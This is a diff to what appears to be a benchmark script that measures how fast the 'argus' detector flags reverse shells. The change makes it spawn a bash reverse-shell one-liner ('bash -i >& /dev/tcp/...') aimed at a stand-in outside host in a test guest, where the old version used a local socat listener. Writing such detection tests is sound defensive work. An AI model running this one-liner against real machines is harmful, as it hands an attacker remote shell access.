@@ -11,7 +11,7 @@ import tempfile
 import time
 
 sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "tests", "guest"))
-from guest import Guest  # noqa: E402
+from guest import OUTSIDE, OUTSIDE_QUIET, Guest  # noqa: E402
 from workload import floor_rows  # noqa: E402
 
 
@@ -201,18 +201,16 @@ def detection_latency(argus, g, runs=5):
         p = subprocess.Popen([argus, "run", "--config", cfg], stdout=subprocess.DEVNULL)
         time.sleep(4)
         for i in range(runs):
-            port = 5000 + i
-            lis = g.spawn(f"sleep 100 | socat TCP-LISTEN:{port},reuseaddr -")
-            time.sleep(1)
             seen = open(log).read().count("Reverse Shell Detected")
             t0 = time.monotonic()
-            sh = g.spawn(f"bash -c 'exec bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'")
+            # to another machine (guest.OUTSIDE): a local listener is no attacker
+            sh = g.spawn(f"bash -c 'exec bash -i >& /dev/tcp/{OUTSIDE}/{OUTSIDE_QUIET} 0>&1'")
             while open(log).read().count("Reverse Shell Detected") == seen:
                 time.sleep(0.01)
                 if time.monotonic() - t0 > 10:
                     break
             lat.append(time.monotonic() - t0)
-            g.run(f"kill -9 -{lis} -{sh}")
+            g.run(f"kill -9 -{sh}")
             time.sleep(1)
         p.terminate()
         p.wait()
